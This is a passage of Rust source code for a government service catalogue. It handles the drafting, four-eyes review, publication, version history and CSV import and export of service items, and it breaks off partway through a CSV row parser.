//! Matters' drafts, review, publication, history, handovers, reports, import and export.

use super::UseCases;
use crate::base::dict::MatterKinds;
use crate::error::{ServiceError, ServiceResult};
use crate::i18n::{self, Lang};
use crate::{Actor, App};
use chrono::NaiveDate;
use fgf_domain::base::audit::FieldChange;
use fgf_domain::base::permission::Permission;
use fgf_domain::base::DepartmentId;
use fgf_domain::catalog::MatterId;
use fgf_domain::catalog::{
    self, Audience, BodyNature, CaseType, Disposition, DispositionKind, Fee, Field, HandlingForm,
    Level, Material, MaterialForm, MaterialSource, MatterDoc, MatterKind, Necessity, OnlineDepth,
    SpecialProcedure, Tier,
};
use fgf_domain::catalog::{HandoverState, VersionStatus};
use fgf_domain::cell;
use fgf_store::catalog::{MatterFilter, MatterRow, MatterSummary, MatterVersionRow};
use fgf_store::{AuditCtx, Page, Paged, Scope, StoreError};
use serde::Serialize;
use serde_json::{json, Value};
use std::collections::HashMap;

/// A matter's change as a keeper submits it.
#[derive(Debug, Clone, serde::Deserialize)]
pub struct MatterInput {
    pub code: String,
    #[serde(default)]
    pub parent_code: Option<String>,
    pub department_code: String,
    pub doc: MatterDoc,
    #[serde(default)]
    pub note: String,
}

/// One problem of a matter, as the API and the forms show it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FieldProblem {
    pub field: &'static str,
    pub code: &'static str,
    pub message: String,
}

fn problem_list(problems: &[(Field, &'static str)], lang: Lang) -> Vec<FieldProblem> {
    problems
        .iter()
        .map(|(f, c)| FieldProblem {
            field: f.key(),
            code: c,
            message: i18n::t(lang, &format!("catalog.{c}")).to_owned(),
        })
        .collect()
}

fn invalid(problems: &[(Field, &'static str)]) -> ServiceError {
    let list = problem_list(problems, Lang::Zh);
    let first = list.first().map(|p| p.message.clone()).unwrap_or_default();
    ServiceError::invalid("matter_invalid")
        .arg(first)
        .details(json!({ "problems": list }))
}

/// A reviewer's decision on a version in review.
#[derive(Debug, Clone, serde::Deserialize)]
pub struct ReviewInput {
    pub approve: bool,
    #[serde(default)]
    pub comment: String,
    /// ISO date the version takes effect; today when absent.
    #[serde(default)]
    pub effective_date: Option<String>,
}

/// One field that differs between two versions.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct FieldDiff {
    pub field: String,
    pub before: Value,
    pub after: Value,
}

/// The difference between two versions, field by field (materials compared as a whole
/// list, one entry per material added, removed or changed).
pub fn diff_docs(a: &MatterDoc, b: &MatterDoc) -> Vec<FieldDiff> {
    let (Value::Object(ma), Value::Object(mb)) = (json!(a), json!(b)) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    let mut keys: Vec<&String> = ma.keys().chain(mb.keys()).collect();
    keys.sort();
    keys.dedup();
    for k in keys {
        if k == "materials" {
            continue;
        }
        let (x, y) = (
            ma.get(k).cloned().unwrap_or(Value::Null),
            mb.get(k).cloned().unwrap_or(Value::Null),
        );
        if x != y {
            out.push(FieldDiff {
                field: k.clone(),
                before: x,
                after: y,
            });
        }
    }
    let by_name = |d: &MatterDoc| -> HashMap<String, Material> {
        d.materials
            .iter()
            .map(|m| (m.name.clone(), m.clone()))
            .collect()
    };
    let (xa, xb) = (by_name(a), by_name(b));
    let mut names: Vec<&String> = xa.keys().chain(xb.keys()).collect();
    names.sort();
    names.dedup();
    for n in names {
        let (x, y) = (xa.get(n), xb.get(n));
        if x != y {
            out.push(FieldDiff {
                field: format!("materials/{n}"),
                before: x.map(|m| json!(m)).unwrap_or(Value::Null),
                after: y.map(|m| json!(m)).unwrap_or(Value::Null),
            });
        }
    }
    out
}

/// A matter with its version in force (or the version asked for), for the guide page.
#[derive(Debug, Clone, Serialize)]
pub struct MatterView {
    pub matter: MatterRow,
    pub department_code: String,
    pub department_name: String,
    pub parent_code: Option<String>,
    pub version: MatterVersionRow,
    pub doc: MatterDoc,
}

fn parse_doc(v: &MatterVersionRow) -> ServiceResult<MatterDoc> {
    serde_json::from_str(&v.doc).map_err(ServiceError::internal)
}

fn summary<'a>(
    doc: &'a MatterDoc,
    parent_id: Option<MatterId>,
    department_id: DepartmentId,
) -> MatterSummary<'a> {
    MatterSummary {
        parent_id,
        department_id,
        name: &doc.name,
        kind: doc.kind.code(),
        tier: doc.tier,
        apply_count: None,
    }
}

fn today(app: &App) -> NaiveDate {
    crate::clock::local_date(app.now_ms())
}

impl UseCases<'_> {
    /// Checks what the store knows about a matter's references: the parent and its tier, the
    /// department, the receiving unit of a delegation and the process definition.
    async fn reference_problems(
        &self,
        code: &str,
        parent_code: Option<&str>,
        department_code: &str,
        doc: &MatterDoc,
    ) -> ServiceResult<(
        Vec<(Field, &'static str)>,
        Option<MatterId>,
        Option<DepartmentId>,
    )> {
        let mut out = Vec::new();
        if let Some(c) = catalog::code_problem(code) {
            out.push((Field::Code, c));
        }
        // A local kind the table leaves open must also be one the district has (a code it does
        // not leave open is already a problem of the document).
        if let MatterKind::Local(c) = &doc.kind {
            if catalog::local_code_ok(c) && !self.base().matter_kinds().await?.accepts(&doc.kind) {
                out.push((Field::Kind, "kind_unknown"));
            }
        }
        let system = Scope::system("catalogue references");
        let department = self
            .store()
            .find_department_by_code(&system, department_code)
            .await?;
        if department.is_none() {
            out.push((Field::Department, "department_unknown"));
        }
        let mut parent_id = None;
        match parent_code.filter(|p| !p.trim().is_empty()) {
            Some(p) => match self.store().find_matter(p.trim()).await? {
                Some(parent) => {
                    if parent.code == code {
                        out.push((Field::Parent, "parent_is_self"));
                    } else if !doc.tier.fits_under(Some(parent.tier)) {
                        out.push((Field::Tier, "tier_does_not_fit_parent"));
                    }
                    parent_id = Some(parent.id);
                }
                None => out.push((Field::Parent, "parent_unknown")),
            },
            None => {
                if !doc.tier.fits_under(None) {
                    out.push((Field::Parent, "parent_missing"));
                }
            }
        }
        if let Some(to) = &doc.disposition.delegate_to {
            if self
                .store()
                .find_department_by_code(&system, to)
                .await?
                .is_none()
            {
                out.push((Field::DelegateTo, "delegate_to_unknown"));
            }
        }
        if let Some(key) = doc.process_key.as_deref().filter(|k| !k.is_empty()) {
            if self.store().latest_process_definition(key).await?.is_none() {
                out.push((Field::ProcessKey, "process_unknown"));
            }
        }
        for m in &doc.materials {
            for hash in [&m.blank_form_file, &m.sample_file].into_iter().flatten() {
                if self.store().find_file(hash).await?.is_none() {
                    out.push((Field::Materials, "material_file_unknown"));
                }
            }
        }
        Ok((out, parent_id, department.map(|d| d.id)))
    }

    /// A keeper drafts a change: a new matter, or the next version of an existing one. An
    /// existing draft of the matter is rewritten instead of adding another; a version in
    /// review must be decided first.
    pub async fn draft_matter(
        &self,
        actor: &Actor,
        input: &MatterInput,
    ) -> ServiceResult<(MatterId, i64)> {
        let scope = actor.scope(Permission::CatalogDraft)?;
        let mut problems: Vec<(Field, &'static str)> = catalog::problems(&input.doc)
            .into_iter()
            .map(|p| (p.field, p.code))
            .collect();
        let code = input.code.trim();
        let (refs, parent_id, department_id) = self
            .reference_problems(
                code,
                input.parent_code.as_deref(),
                input.department_code.trim(),
                &input.doc,
            )
            .await?;
        problems.extend(refs);
        if !problems.is_empty() {
            return Err(invalid(&problems));
        }
        let department_id = department_id.ok_or_else(|| ServiceError::internal("checked"))?;
        // The keeper drafts for departments in their data scope only.
        self.store().get_department(&scope, department_id).await?;
        let existing = self.store().find_matter(code).await?;
        if let Some(m) = &existing {
            self.store().get_department(&scope, m.department_id).await?;
        }
        let doc_json = serde_json::to_string(&input.doc).map_err(ServiceError::internal)?;
        let mut tx = self.store().write(actor.audit_ctx(self.now_ms())).await?;
        let (matter_id, number, action) = match existing {
            None => {
                let id = tx
                    .insert_matter(code, &summary(&input.doc, parent_id, department_id))
                    .await
                    .map_err(|e| match e {
                        StoreError::Conflict { .. } => ServiceError::conflict("matter_code_taken"),
                        other => other.into(),
                    })?;
                let n = tx
                    .insert_matter_version(id, VersionStatus::Draft, &doc_json, &input.note, None)
                    .await?;
                (id, n, "catalog.draft_new")
            }
            Some(m) => match tx.open_matter_version(m.id).await? {
                Some(v) if v.status == VersionStatus::InReview => {
                    tx.rollback().await?;
                    return Err(ServiceError::conflict("matter_in_review"));
                }
                Some(v) => {
                    tx.update_draft(&v, &doc_json, &input.note).await?;
                    (m.id, v.version, "catalog.draft_update")
                }
                None => {
                    let n = tx
                        .insert_matter_version(
                            m.id,
                            VersionStatus::Draft,
                            &doc_json,
                            &input.note,
                            None,
                        )
                        .await?;
                    (m.id, n, "catalog.draft")
                }
            },
        };
        tx.audit(
            action,
            "matter",
            code,
            &[FieldChange {
                field: "version".to_owned(),
                before: None,
                after: Some(json!({ "version": number, "name": input.doc.name })),
            }],
        )
        .await?;
        tx.commit().await?;
        Ok((matter_id, number))
    }

    /// The drafter sends a draft for review.
    pub async fn submit_matter(
        &self,
        actor: &Actor,
        matter_id: MatterId,
        number: i64,
    ) -> ServiceResult<()> {
        let scope = actor.scope(Permission::CatalogDraft)?;
        let m = self.store().get_matter(matter_id).await?;
        self.store().get_department(&scope, m.department_id).await?;
        let mut tx = self.store().write(actor.audit_ctx(self.now_ms())).await?;
        let v = tx.load_matter_version(matter_id, number).await?;
        if v.status != VersionStatus::Draft {
            tx.rollback().await?;
            return Err(ServiceError::conflict("matter_not_draft"));
        }
        tx.set_version_status(&v, VersionStatus::Draft, VersionStatus::InReview, None)
            .await?;
        tx.audit(
            "catalog.submit",
            "matter",
            &m.code,
            &[status_change(number, "draft", "in_review")],
        )
        .await?;
        tx.commit().await?;
        Ok(())
    }

    /// A reviewer approves (publishing it with an effective date) or rejects a version in
    /// review. The drafter cannot decide their own draft.
    pub async fn review_matter(
        &self,
        actor: &Actor,
        matter_id: MatterId,
        number: i64,
        review: &ReviewInput,
    ) -> ServiceResult<()> {
        let scope = actor.scope(Permission::CatalogReview)?;
        let m = self.store().get_matter(matter_id).await?;
        self.store().get_department(&scope, m.department_id).await?;
        let today = today(self);
        // Only an approval takes effect, so only an approval's date is read.
        let effective = match review.effective_date.as_deref() {
            Some(s) if review.approve => {
                NaiveDate::parse_from_str(s, "%Y-%m-%d").map_err(|_| {
                    ServiceError::field(
                        "invalid_field",
                        "effective_date",
                        "日期格式应为 YYYY-MM-DD",
                    )
                })?
            }
            _ => today,
        };
        // A version cannot have been in force before it was approved: a past date would
        // back-date the guide the public relied on.
        if review.approve && effective < today {
            return Err(ServiceError::invalid("effective_date_past")
                .arg(today)
                .details(json!({ "field": "effective_date", "reason": "生效日期不得早于今天" })));
        }
        if !review.approve && review.comment.trim().is_empty() {
            return Err(ServiceError::invalid("review_comment_required"));
        }
        let mut tx = self.store().write(actor.audit_ctx(self.now_ms())).await?;
        let v = tx.load_matter_version(matter_id, number).await?;
        if v.status != VersionStatus::InReview {
            tx.rollback().await?;
            return Err(ServiceError::conflict("matter_not_in_review"));
        }
        if v.drafted_by == Some(actor.account.id) {
            tx.rollback().await?;
            return Err(ServiceError::forbidden("review_own_draft"));
        }
        let to = if review.approve {
            VersionStatus::Published
        } else {
            VersionStatus::Rejected
        };
        tx.set_version_status(
            &v,
            VersionStatus::InReview,
            to,
            Some((review.comment.trim(), review.approve.then_some(effective))),
        )
        .await?;
        if review.approve && effective <= today {
            let doc = parse_doc(&v)?;
            self.put_in_force(&mut tx, &m, &v, &doc, true, None).await?;
        }
        tx.audit(
            if review.approve {
                "catalog.publish"
            } else {
                "catalog.reject"
            },
            "matter",
            &m.code,
            &[
                status_change(number, VersionStatus::InReview.as_str(), to.as_str()),
                FieldChange {
                    field: "effective_date".to_owned(),
                    before: None,
                    after: review.approve.then(|| json!(effective)),
                },
            ],
        )
        .await?;
        tx.commit().await?;
        Ok(())
    }

    /// Makes a published version the one in force; a delegation opens its handover.
    /// `announce` writes the search index's message; an import announces once for all.
    /// `apply_count` goes into the same update of the matter row (an import sets it).
    async fn put_in_force(
        &self,
        tx: &mut fgf_store::WriteTx,
        m: &MatterRow,
        v: &MatterVersionRow,
        doc: &MatterDoc,
        announce: bool,
        apply_count: Option<i64>,
    ) -> ServiceResult<()> {
        let parent_id = m.parent_id;
        let s = MatterSummary {
            apply_count,
            ..summary(doc, parent_id, m.department_id)
        };
        tx.make_current(m.id, v.version, &s).await?;
        if announce {
            tx.outbox("catalog.changed", &json!({ "matter_id": m.id }))
                .await?;
        }
        if doc.disposition.kind == DispositionKind::Delegate {
            if let Some(to) = &doc.disposition.delegate_to {
                let to = self
                    .store()
                    .find_department_by_code(&Scope::system("delegation target"), to)
                    .await?
                    .ok_or_else(|| ServiceError::invalid("matter_invalid").arg(to))?;
                if to.id != m.department_id && tx.pending_handover(m.id).await?.is_none() {
                    let checklist = json!(Checklist::default());
                    tx.insert_handover(m.id, m.department_id, to.id, &checklist.to_string())
                        .await?;
                }
            }
        }
        Ok(())
    }

    /// Puts in force the published versions whose effective date has come (a daily job).
    pub async fn activate_due_matters(self) -> ServiceResult<usize> {
        let due = self.store().versions_due(today(&self)).await?;
        let mut n = 0;
        for v in due {
            let m = self.store().get_matter(v.matter_id).await?;
            let doc = parse_doc(&v)?;
            let mut tx = self.store().write(self.system_ctx("catalog")).await?;
            self.put_in_force(&mut tx, &m, &v, &doc, true, None).await?;
            tx.audit(
                "catalog.in_force",
                "matter",
                &m.code,
                &[status_change(v.version, "published", "in_force")],
            )
            .await?;
            tx.commit().await?;
            n += 1;
        }
        Ok(n)
    }

    /// A matter's row by code, if there is one. Codes are public (the service guides show
    /// them), so the lookup takes no caller; what a caller may do with the matter is the
    /// next use case's check.
    pub async fn find_matter(self, code: &str) -> ServiceResult<Option<MatterRow>> {
        Ok(self.store().find_matter(code).await?)
    }

    /// A matter's id by code, or `not_found`.
    pub async fn matter_id(self, code: &str) -> ServiceResult<MatterId> {
        Ok(self
            .find_matter(code)
            .await?
            .ok_or_else(|| ServiceError::not_found("not_found").arg("matter").arg(code))?
            .id)
    }

    /// Public: matters in force matching `filter` (whatever it says, nothing else: drafts and
    /// withdrawn matters are not published).
    pub async fn public_matters(
        self,
        filter: &MatterFilter,
        page: Page,
    ) -> ServiceResult<Paged<MatterRow>> {
        let filter = MatterFilter {
            in_force_only: true,
            ..filter.clone()
        };
        Ok(self.store().list_matters(&filter, page).await?)
    }

    /// Public: the `n` matters in force applied for most (热门服务).
    pub async fn popular_matters(self, n: i64) -> ServiceResult<Vec<MatterRow>> {
        Ok(self.store().popular_matters(n).await?)
    }

    /// Public: the `n` guides that took effect last (the portal's notices).
    pub async fn recent_guides(self, n: i64) -> ServiceResult<Vec<(MatterRow, i64, NaiveDate)>> {
        let today = crate::clock::local_date(self.now_ms());
        Ok(self.store().recent_guides(today, n).await?)
    }

    /// Public: every matter in force with its version in force.
    pub async fn matters_in_force(self) -> ServiceResult<Vec<(MatterRow, MatterVersionRow)>> {
        Ok(self.store().matters_in_force().await?)
    }

    /// Public: the parent item of a matter (主项 of a 子项), if it has one.
    pub async fn parent_matter(self, matter: &MatterRow) -> ServiceResult<Option<MatterRow>> {
        match matter.parent_id {
            Some(p) => Ok(Some(self.store().get_matter(p).await?)),
            None => Ok(None),
        }
    }

    /// Public: the id of the department a catalogue filter names by code, or `not_found`.
    /// The public catalogue names departments, so the lookup is not scoped.
    pub async fn catalogue_department(self, code: &str) -> ServiceResult<DepartmentId> {
        self.store()
            .find_department_by_code(&Scope::system("catalogue filter"), code)
            .await?
            .map(|d| d.id)
            .ok_or_else(|| {
                ServiceError::not_found("not_found")
                    .arg("department")
                    .arg(code)
            })
    }

    /// Staff: matters in any state (drafts and withdrawn ones too) matching `filter`.
    pub async fn staff_matters(
        self,
        actor: &Actor,
        filter: &MatterFilter,
        page: Page,
    ) -> ServiceResult<Paged<MatterRow>> {
        actor.scope(Permission::Workbench)?;
        Ok(self.store().list_matters(filter, page).await?)
    }

    /// The reviewer's queue: versions in review of the matters within the reviewer's scope.
    pub async fn versions_in_review(
        self,
        actor: &Actor,
    ) -> ServiceResult<Vec<(MatterRow, MatterVersionRow)>> {
        let scope = actor.scope(Permission::CatalogReview)?;
        // 待我审核: another person reviews a draft (the four-eyes rule), so the caller's own
        // drafts are not theirs to review; they are listed as sent for review instead.
        Ok(self
            .store()
            .versions_in_status(&scope, VersionStatus::InReview)
            .await?
            .into_iter()
            .filter(|(_, v)| v.drafted_by != Some(actor.account.id))
            .collect())
    }

    /// The caller's own drafts waiting for someone else's review (我提交的).
    pub async fn my_versions_in_review(
        self,
        actor: &Actor,
    ) -> ServiceResult<Vec<(MatterRow, MatterVersionRow)>> {
        let scope = actor.scope(Permission::CatalogDraft)?;
        Ok(self
            .store()
            .versions_in_status(&scope, VersionStatus::InReview)
            .await?
            .into_iter()
            .filter(|(_, v)| v.drafted_by == Some(actor.account.id))
            .collect())
    }

    /// The everyday phrases mapped to a matter; they feed the public search, so they are no
    /// secret.
    pub async fn phrases_of_matter(self, matter_id: MatterId) -> ServiceResult<Vec<String>> {
        Ok(self
            .store()
            .matter_phrases()
            .await?
            .into_iter()
            .filter(|(_, id)| *id == matter_id)
            .map(|(p, _)| p)
            .collect())
    }

    /// A matter by code with the version in force (the public service guide), or with
    /// `version` for staff.
    pub async fn matter_view(self, code: &str, number: Option<i64>) -> ServiceResult<MatterView> {
        let m = self
            .store()
            .find_matter(code)
            .await?
            .ok_or_else(|| ServiceError::not_found("not_found").arg("matter").arg(code))?;
        let number = match number.or(m.current_version) {
            Some(n) => n,
            None => return Err(ServiceError::not_found("not_found").arg("matter").arg(code)),
        };
        let v = self.store().matter_version(m.id, number).await?;
        let doc = parse_doc(&v)?;
        let system = Scope::system("public catalogue");
        let d = self
            .store()
            .get_department(&system, m.department_id)
            .await?;
        let parent_code = match m.parent_id {
            Some(p) => Some(self.store().get_matter(p).await?.code),
            None => None,
        };
        Ok(MatterView {
            matter: m,
            department_code: d.code,
            department_name: d.name,
            parent_code,
            version: v,
            doc,
        })
    }

    /// Public: the blank form (`blank`) or filled sample (`sample`) attached to material
    /// `index` (from 1) of a matter's guide in force.
    pub async fn matter_form_file(
        &self,
        code: &str,
        index: usize,
        which: &str,
    ) -> ServiceResult<(fgf_store::base::file::FileObject, Vec<u8>)> {
        let v = self.matter_view(code, None).await?;
        let missing = || {
            ServiceError::not_found("not_found")
                .arg("file")
                .arg(format!("{code}/{index}/{which}"))
        };
        let m = index
            .checked_sub(1)
            .and_then(|i| v.doc.materials.get(i))
            .ok_or_else(missing)?;
        let hash = match which {
            "blank" => m.blank_form_file.as_deref(),
            "sample" => m.sample_file.as_deref(),
            _ => None,
        }
        .ok_or_else(missing)?;
        self.base().read_stored_file(hash).await
    }

    /// Staff: every version of a matter.
    pub async fn matter_history(
        &self,
        actor: &Actor,
        matter_id: MatterId,
    ) -> ServiceResult<Vec<MatterVersionRow>> {
        actor.scope(Permission::Workbench)?;
        Ok(self.store().matter_versions(matter_id).await?)
    }

    /// Staff: what changed from version `a` to version `b`.
    pub async fn matter_diff(
        &self,
        actor: &Actor,
        matter_id: MatterId,
        a: i64,
        b: i64,
    ) -> ServiceResult<Vec<FieldDiff>> {
        actor.scope(Permission::Workbench)?;
        let va = self.store().matter_version(matter_id, a).await?;
        let vb = self.store().matter_version(matter_id, b).await?;
        Ok(diff_docs(&parse_doc(&va)?, &parse_doc(&vb)?))
    }
}

fn status_change(number: i64, from: &str, to: &str) -> FieldChange {
    FieldChange {
        field: "status".to_owned(),
        before: Some(json!({ "version": number, "status": from })),
        after: Some(json!({ "version": number, "status": to })),
    }
}

// ---------------------------------------------------------------------------------------------
// Import and export

/// The matters sheet's columns, exactly as the file's header row names them (README).
pub const MATTER_HEADERS: [&str; 33] = [
    "事项编码",
    "上级事项编码",
    "事项层级",
    "事项名称",
    "事项类型",
    "实施部门编码",
    "行使层级",
    "服务对象",
    "设定依据",
    "受理条件",
    "法定办结时限",
    "承诺办结时限",
    "办件类型",
    "是否收费",
    "收费标准",
    "收费依据",
    "流程定义",
    "到办事现场次数",
    "必须现场办理原因",
    "网上办理深度",
    "是否全程网办",
    "办理形式",
    "办理地点",
    "办理时间",
    "咨询电话",
    "监督投诉电话",
    "特别程序",
    "审批结果名称",
    "改革处置",
    "处置说明",
    "下放至",
    "生活事件",
    "年办件量",
];

/// Columns a file may leave out (files written before they existed); a missing one takes
/// its default (实施主体性质: 法定机关).
pub const OPTIONAL_MATTER_HEADERS: [&str; 1] = ["实施主体性质"];

/// The materials sheet's columns; the last two (容缺受理, 告知承诺: 是/否) are optional.
pub const MATERIAL_HEADERS: [&str; 11] = [
    "事项编码",
    "材料名称",
    "材料形式",
    "份数",
    "必要性",
    "条件说明",
    "来源渠道",
    "空白表格",
    "示例样表",
    "容缺受理",
    "告知承诺",
];

/// The materials sheet's columns an import requires.
const REQUIRED_MATERIAL_HEADERS: usize = 9;

/// The Chinese name of a field by its API key (`hours` → 办理时间), for diffs and messages;
/// a material's key (`materials/NAME`) is 申请材料.
pub fn field_label(key: &str) -> &'static str {
    const ALL: [Field; 33] = [
        Field::Code,
        Field::Parent,
        Field::Tier,
        Field::Name,
        Field::Kind,
        Field::Department,
        Field::Level,
        Field::Audiences,
        Field::LegalBasis,
        Field::Conditions,
        Field::StatutoryDays,
        Field::PromisedDays,
        Field::CaseType,
        Field::Fee,
        Field::FeeBasis,
        Field::ProcessKey,
        Field::Trips,
        Field::TripsReason,
        Field::OnlineDepth,
        Field::FullyOnline,
        Field::HandlingForms,
        Field::Place,
        Field::Hours,
        Field::ConsultPhone,
        Field::ComplaintPhone,
        Field::SpecialProcedures,
        Field::ResultName,
        Field::Disposition,
        Field::DispositionNote,
        Field::DelegateTo,
        Field::LifeEvents,
        Field::ApplyCount,
        Field::Materials,
    ];
    if key.starts_with("materials/") {
        return "申请材料";
    }
    ALL.iter()
        .find(|f| f.key() == key)
        .map_or("其他", |f| header_of(*f))
}

/// The column a field is read from.
fn header_of(f: Field) -> &'static str {
    match f {
        Field::Code => "事项编码",
        Field::Parent => "上级事项编码",
        Field::Tier => "事项层级",
        Field::Name => "事项名称",
        Field::Kind => "事项类型",
        Field::Department => "实施部门编码",
        Field::Level => "行使层级",
        Field::Audiences => "服务对象",
        Field::LegalBasis => "设定依据",
        Field::Conditions => "受理条件",
        Field::StatutoryDays => "法定办结时限",
        Field::PromisedDays => "承诺办结时限",
        Field::CaseType => "办件类型",
        Field::Fee => "收费标准",
        Field::FeeBasis => "收费依据",
        Field::ProcessKey => "流程定义",
        Field::Trips => "到办事现场次数",
        Field::TripsReason => "必须现场办理原因",
        Field::OnlineDepth => "网上办理深度",
        Field::FullyOnline => "是否全程网办",
        Field::HandlingForms => "办理形式",
        Field::Place => "办理地点",
        Field::Hours => "办理时间",
        Field::ConsultPhone => "咨询电话",
        Field::ComplaintPhone => "监督投诉电话",
        Field::SpecialProcedures => "特别程序",
        Field::ResultName => "审批结果名称",
        Field::Disposition => "改革处置",
        Field::DispositionNote => "处置说明",
        Field::DelegateTo => "下放至",
        Field::LifeEvents => "生活事件",
        Field::ApplyCount => "年办件量",
        Field::Materials => "材料名称",
        Field::Form => "申请表",
    }
}

/// A table read from a file: its header row and data rows, each with its line number.
#[derive(Debug, Clone, Default)]
pub struct Sheet {
    pub headers: Vec<String>,
    pub rows: Vec<(usize, Vec<String>)>,
}

impl Sheet {
    /// Reads CSV text (UTF-8, an optional byte-order mark, RFC 4180 quoting). The error is in
    /// our words (it reaches the keeper's page), never the parser's.
    pub fn from_csv(text: &str) -> Result<Sheet, String> {
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        let mut rdr = csv::ReaderBuilder::new()
            .has_headers(true)
            .flexible(true)
            .from_reader(text.as_bytes());
        let bad_line = |e: &csv::Error| {
            format!(
                "CSV 第 {} 行无法读取",
                e.position().map_or(1, csv::Position::line)
            )
        };
        let headers = rdr
            .headers()
            .map_err(|e| bad_line(&e))?
            .iter()
            .map(|h| h.trim().to_owned())
            .collect();
        let mut rows = Vec::new();
        for rec in rdr.records() {
            let rec = rec.map_err(|e| bad_line(&e))?;
            let line = rec.position().map_or(0, |p| p.line() as usize);
            if rec.iter().all(|c| c.trim().is_empty()) {
                continue;
            }
            rows.push((
                line,
                rec.iter()
                    .map(|c| cell::restore(c.trim()).to_owned())
                    .collect(),
            ));
        }
        Ok(Sheet { headers, rows })
    }

    /// Writes CSV, each cell guarded against formula injection ([`cell::guard`]; the
    /// readers undo it, so an export imports back unchanged).
    pub fn to_csv(&self) -> String {
        let mut w = csv::Writer::from_writer(Vec::new());
        let _ = w.write_record(self.headers.iter().map(|h| cell::guard(h).into_owned()));
        for (_, r) in &self.rows {
            let _ = w.write_record(r.iter().map(|c| cell::guard(c).into_owned()));
        }
        String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
    }
}

/// One reason a row of an import was refused.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ImportError {
    /// 事项 or 材料.
    pub sheet: &'static str,
    /// The line of the file (the header is line 1).
    pub row: usize,
    pub column: String,
    pub code: String,
    pub reason: String,
}

/// What an import did.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct ImportSummary {
    pub matters: usize,
    pub created: usize,
    pub new_versions: usize,
    pub unchanged: usize,
    pub materials: usize,
}

/// A parsed row of the matters sheet.
struct ParsedMatter {
    line: usize,
    code: String,
    parent_code: Option<String>,
    department_code: String,
    doc: MatterDoc,
    apply_count: i64,
}

struct RowReader<'a> {
    sheet: &'static str,
    line: usize,
    cells: &'a [String],
    index: &'a HashMap<String, usize>,
    errors: &'a mut Vec<ImportError>,
}

impl RowReader<'_> {
    fn cell(&self, header: &str) -> &str {
        self.index
            .get(header)
            .and_then(|i| self.cells.get(*i))
            .map_or("", String::as_str)
    }

    fn fail(&mut self, header: &str, code: &str) {
        self.errors.push(ImportError {
            sheet: self.sheet,
            row: self.line,
            column: header.to_owned(),
            code: code.to_owned(),
            reason: i18n::t(Lang::Zh, &format!("catalog.{code}")).to_owned(),
        });
    }

    fn required(&mut self, header: &str) -> String {
        let v = self.cell(header).to_owned();
        if v.is_empty() {
            self.fail(header, "cell_required");
        }
        v
    }

    fn number(&mut self, header: &str, blank_ok: bool) -> Option<u32> {
        let v = self.cell(header).to_owned();
        if v.is_empty() {
            if !blank_ok {
                self.fail(header, "cell_required");
            }
            return None;
        }
        match v.parse::<u32>() {
            Ok(n) => Some(n),
            Err(_) => {
                self.fail(header, "not_a_number");
                None
            }
        }
    }

    fn one<T: Copy>(&mut self, header: &str, parse: fn(&str) -> Option<T>) -> Option<T> {
        let v = self.required(header);
        if v.is_empty() {
            return None;
        }
        let got = parse(&v);
        if got.is_none() {
            self.fail(header, "unknown_value");
        }
        got
    }

    fn many<T: Copy>(&mut self, header: &str, parse: fn(&str) -> Option<T>) -> Vec<T> {
        let mut out = Vec::new();
        for part in catalog::split_list(self.cell(header)) {
            match parse(&part) {
                Some(v) => out.push(v),
                None => {
                    self.fail(header, "unknown_value");
                    break;
                }
            }
        }
        out
    }

    fn yes_no(&mut self, header: &str) -> Option<bool> {
        match self.cell(header) {
            "是" => Some(true),
            "否" => Some(false),
            "" => {
                self.fail(header, "cell_required");
                None
            }
            _ => {
                self.fail(header, "unknown_value");
                None
            }
        }
    }
}

fn column_index(headers: &[String]) -> HashMap<String, usize> {
    headers
        .iter()
        .enumerate()
        .map(|(i, h)| (h.clone(), i))
        .collect()
}

fn missing_headers(
    sheet: &'static str,
    headers: &[String],
    wanted: &[&str],
    errors: &mut Vec<ImportError>,
) {
    for w in wanted {
        if !headers.iter().any(|h| h == w) {
            errors.push(ImportError {
                sheet,
                row: 1,
                column: (*w).to_owned(),
                code: "column_missing".to_owned(),
                reason: i18n::t(Lang::Zh, "catalog.column_missing").to_owned(),
            });
        }
    }
}

fn parse_matter_row(
    line: usize,
    cells: &[String],
    index: &HashMap<String, usize>,
    kinds: &MatterKinds,
    errors: &mut Vec<ImportError>,
) -> Option<ParsedMatter> {
    let before = errors.len();
    let mut r = RowReader {
        sheet: "事项",
        line,
        cells,
        index,
        errors,
    };
    let code = r.required("事项编码");
    let parent_code = Some(r.cell("上级事项编码").to_owned()).filter(|p| !p.is_empty());
    let tier = r.one("事项层级", Tier::parse);
    let name = r.required("事项名称");
    let kind = match r.required("事项类型") {
        v if v.is_empty() => None,
        v => {
            let k = kinds.parse(&v);
            if k.is_none() {
                r.fail("事项类型", "kind_unknown");
            }
            k
        }
    };
    let department_code = r.required("实施部门编码");
    let level = r.one("行使层级", Level::parse);
    let body_nature = match r.cell("实施主体性质") {
        "" => Some(BodyNature::Statutory),
        v => {
            let b = BodyNature::parse(v);
            if b.is_none() {
                r.fail("实施主体性质", "unknown_value");
            }
            b
        }
    };
    let audiences = r.many("服务对象", Audience::parse);
    let legal_basis: Vec<String> = r
        .cell("设定依据")
        .split(['；', ';', '\n'])
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .map(str::to_owned)
        .collect();
    let conditions = r.cell("受理条件").to_owned();
    let statutory_days = r.number("法定办结时限", false);
    let promised_days = r.number("承诺办结时限", true);
    let case_type = r.one("办件类型", CaseType::parse);
    let charged = r.yes_no("是否收费");
    let fee = match charged {
        Some(true) => Some(Fee {
            standard: r.cell("收费标准").to_owned(),
            basis: r.cell("收费依据").to_owned(),
        }),
        _ => {
            if !r.cell("收费标准").is_empty() || !r.cell("收费依据").is_empty() {
                r.fail("收费依据", "fee_without_charge");
            }
            None
        }
    };
    let process_key = Some(r.cell("流程定义").to_owned()).filter(|p| !p.is_empty());
    let trips = r.number("到办事现场次数", false);
    let trips_reason = r.cell("必须现场办理原因").to_owned();
    let online_depth = r.one("网上办理深度", OnlineDepth::parse);
    let fully_online = r.yes_no("是否全程网办");
    let handling_forms = r.many("办理形式", HandlingForm::parse);
    let place = r.cell("办理地点").to_owned();
    let hours = r.cell("办理时间").to_owned();
    let consult_phone = r.cell("咨询电话").to_owned();
